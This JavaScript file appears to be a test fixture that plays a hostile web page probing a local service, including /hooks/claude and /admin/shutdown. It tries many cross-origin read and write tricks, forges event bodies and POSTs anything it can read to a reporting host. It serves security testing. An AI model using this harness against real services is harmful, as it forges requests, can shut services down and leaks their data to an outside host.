// What a hostile page can do, all of it. The test puts three constants before this: TARGET (the origin that is attacked), HOME (where
// the page reports to), MARK (whether each path says which
// primitive it is: at the control).
"use strict";
const READS = ["/events", "/events/stream?from=1", "/health", "/sessions", "/metrics", "/stats", "/state/sessions"];
const WRITES = ["/events/emit", "/hooks/claude", "/admin/gc", "/admin/shutdown"];
const BODY = JSON.stringify({ kind: "custom", payload: { name: "forged", data: 1 } });
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const report = (name, what) =>
  fetch(HOME + "/report?" + name, { method: "POST", mode: "no-cors", body: String(what) }).catch(() => {});
const at = (name, path) => TARGET + path + (MARK ? (path.includes("?") ? "&" : "?") + "p=" + name : "");

/// Runs one primitive and reports what the page could read by it; one that never ends is left alone after a while.
async function attempt(name, run) {
  const late = pause(1500).then(() => "late");
  const outcome = await Promise.race([Promise.resolve().then(run).catch((error) => "blocked: " + error), late]);
  await report(name, outcome);
}

const read = async (response) => response.type + " " + response.status + " " + (await response.text());

function element(tag, attributes, parent) {
  const made = document.createElement(tag);
  return new Promise((done) => {
    made.onload = () => done("loaded " + look(made));
    made.onerror = () => done("error");
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    (parent || document.body).append(made);
  });
}

function look(made) {
  try {
    if (made.sheet) return [...made.sheet.cssRules].map((rule) => rule.cssText).join();
    if (made.contentDocument) return made.contentDocument.documentElement.outerHTML;
    if (made.contentWindow) return made.contentWindow.document.documentElement.outerHTML;
  } catch (error) {
    return "blocked: " + error;
  }
  return (made.naturalWidth || 0) + "x" + (made.naturalHeight || 0);
}

function form(name, path, enctype, method) {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  const made = document.createElement("form");
  Object.assign(made, { action: at(name, path), method, target: frame.name });
  made.enctype = enctype;
  const input = document.createElement("input");
  // As text/plain this is the JSON of an event.
  input.name = '{"kind":"custom","payload":{"name":"forged","data":"';
  input.value = '"}}';
  made.append(input);
  if (MARK && method === "get") {
    // Its own query replaces the one of the address.
    const mark = document.createElement("input");
    Object.assign(mark, { name: "p", value: name });
    made.append(mark);
  }
  document.body.append(frame, made);
  return new Promise((done) => {
    frame.onload = () => done("loaded " + look(frame));
    made.submit();
  });
}

function xhr(method, url, body, headers) {
  return new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onload = () => done(request.status + " " + request.responseText);
    request.onerror = () => done("error");
    request.open(method, url);
    for (const [key, value] of Object.entries(headers || {})) request.setRequestHeader(key, value);
    request.send(body);
  });
}

function listen(url, options) {
  return new Promise((done) => {
    const source = new EventSource(url, options);
    const all = ["message", "custom", "prompt_submitted", "checkpoint"];
    for (const kind of all) source.addEventListener(kind, (event) => done("event " + event.data));
    source.onerror = () => {
      source.close();
      done("error");
    };
  });
}

function socket(url) {
  return new Promise((done) => {
    const made = new WebSocket(url.replace("http:", "ws:"));
    made.onopen = () => made.send(BODY);
    made.onmessage = (event) => done("message " + event.data);
    made.onerror = () => done("error");
  });
}

function css(name, text) {
  const style = document.createElement("style");
  style.textContent = text.replace("URL", at(name, "/events"));
  const box = document.createElement("div");
  box.className = "c-" + name;
  box.textContent = "text";
  document.body.append(style, box);
  box.getBoundingClientRect();
  return pause(200).then(() => "applied");
}

async function attack() {
  const json = { "Content-Type": "application/json" };
  for (const path of READS) {
    await attempt("fetch-get", async () => read(await fetch(at("fetch-get", path))));
    await attempt("fetch-opaque", async () => read(await fetch(at("fetch-opaque", path), { mode: "no-cors" })));
    await attempt("fetch-credentials", async () =>
      read(await fetch(at("fetch-credentials", path), { credentials: "include" })));
    await attempt("xhr-get", () => xhr("GET", at("xhr-get", path)));
    await attempt("iframe", () => element("iframe", { src: at("iframe", path) }));
    await attempt("image", () => element("img", { src: at("image", path) }));
  }
  for (const path of WRITES) {
    const post = (name, more) => attempt(name, async () =>
      read(await fetch(at(name, path), { method: "POST", body: BODY, ...more })));
    await post("fetch-text", {});
    await post("fetch-opaque-text", { mode: "no-cors" });
    await post("fetch-opaque-json", { mode: "no-cors", headers: json });
    await post("fetch-json", { headers: json });
    await post("fetch-token", { headers: { ...json, Authorization: "Bearer " + "0".repeat(64) } });
    await post("fetch-keepalive", { mode: "no-cors", keepalive: true });
    await post("fetch-blob", { mode: "no-cors", body: new Blob([BODY], { type: "text/plain" }) });
    await attempt("fetch-put", async () => read(await fetch(at("fetch-put", path), { method: "PUT", body: BODY })));
    await attempt("xhr-post", () => xhr("POST", at("xhr-post", path), BODY));
    await attempt("xhr-json", () => xhr("POST", at("xhr-json", path), BODY, json));
    await attempt("beacon", () => navigator.sendBeacon(at("beacon", path), BODY));
    await attempt("beacon-json", () =>
      navigator.sendBeacon(at("beacon-json", path), new Blob([BODY], { type: "application/json" })));
    await attempt("form-urlencoded", () => form("form-urlencoded", path, "application/x-www-form-urlencoded", "post"));
    await attempt("form-multipart", () => form("form-multipart", path, "multipart/form-data", "post"));
    await attempt("form-text", () => form("form-text", path, "text/plain", "post"));
  }
  await attempt("form-get", () => form("form-get", "/events", "application/x-www-form-urlencoded", "get"));
  await attempt("script", () => element("script", { src: at("script", "/events") }));
  await attempt("module", () => element("script", { src: at("module", "/events"), type: "module" }));
  await attempt("stylesheet", () => element("link", { rel: "stylesheet", href: at("stylesheet", "/events") }));
  await attempt("preload", () =>
    element("link", { rel: "preload", as: "fetch", crossorigin: "", href: at("preload", "/events") }));
  await attempt("modulepreload", () => element("link", { rel: "modulepreload", href: at("modulepreload", "/events") }));
  await attempt("prefetch", () => element("link", { rel: "prefetch", href: at("prefetch", "/events") }));
  await attempt("object", () => element("object", { data: at("object", "/events") }));
  await attempt("embed", () => element("embed", { src: at("embed", "/events") }));
  await attempt("audio", () => element("audio", { src: at("audio", "/events"), preload: "auto" }));
  await attempt("video", () => element("video", { src: at("video", "/events"), preload: "auto" }));
  await attempt("poster", () => element("video", { poster: at("poster", "/events") }));
  await attempt("input-image", () => element("input", { type: "image", src: at("input-image", "/events") }));
  await attempt("css-background", () => css("css-background", ".c-css-background { background-image: url(URL) }"));
  await attempt("css-import", () => css("css-import", "@import url(URL);"));
  await attempt("css-font", () =>
    css("css-font", "@font-face { font-family: stolen; src: url(URL) } .c-css-font { font-family: stolen }"));
  await attempt("eventsource", () => listen(at("eventsource", "/events/stream?from=1")));
  await attempt("eventsource-credentials", () =>
    listen(at("eventsource-credentials", "/events/stream?from=1"), { withCredentials: true }));
  await attempt("websocket", () => socket(at("websocket", "/events/stream")));
  await attempt("ping", () => {
    const made = document.createElement("a");
    Object.assign(made, { href: "#", ping: at("ping", "/events/emit") });
    document.body.append(made);
    made.click();
    return pause(200);
  });
  await attempt("worker", () => new Promise((done) => {
    const code = `fetch("${at("worker", "/events")}").then((r) => r.text()).then(postMessage, (e) => postMessage("blocked: " + e))`;
    new Worker(URL.createObjectURL(new Blob([code]))).onmessage = (event) => done(event.data);
  }));
  await attempt("import-scripts", () => new Promise((done) => {
    const code = `try { importScripts("${at("import-scripts", "/events")}"); postMessage("ran") } catch (e) { postMessage("blocked: " + e) }`;
    new Worker(URL.createObjectURL(new Blob([code]))).onmessage = (event) => done(event.data);
  }));
  await attempt("service-worker", async () => {
    const place = "/worker.js?" + encodeURIComponent(at("service-worker", "/events"));
    await navigator.serviceWorker.register(place);
    return new Promise((done) => (navigator.serviceWorker.onmessage = (event) => done(event.data)));
  });
  await attempt("window", async () => {
    const opened = window.open(at("window", "/events"));
    await pause(300);
    try {
      return "opened " + opened.document.documentElement.outerHTML;
    } finally {
      opened.close();
    }
  });
}
